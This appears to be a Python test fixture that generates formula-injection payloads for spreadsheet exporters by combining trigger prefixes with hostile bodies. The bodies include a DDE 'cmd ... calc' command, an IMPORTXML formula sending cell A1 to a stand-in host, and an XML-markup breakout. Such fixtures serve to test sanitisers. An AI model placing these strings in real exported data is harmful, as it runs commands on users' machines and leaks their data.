"""Texts that a spreadsheet program, or a library that writes for one, might take for more than text."""

from itertools import product

PREFIXES = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", " =", "  +", '"=', "'=", "＝", "＋", "－", "＠", "﹦"),
    *("\u200b=", "\ufeff=", "\xa0@", "“=", "`-", "{=", "[x](", "$$"),
)
BODIES = (
    *("cmd|' /C calc'!A0", 'HYPERLINK("http://e.example","click")', "1+1", "SUM(A1:A9)}", "1;=1+1,=2)"),
    *(
        'IMPORTXML("http://e.example/?a="&A1,"//a")',
        "http://e.example/a)",
        "internal:Cover!A1)",
        "mailto:a@e.example$$",
    ),
    "x</text:p></table:table-cell><f>1+1</f>&amp;]]>",
)
PAYLOADS = [prefix + body for prefix, body in product(PREFIXES, BODIES)]
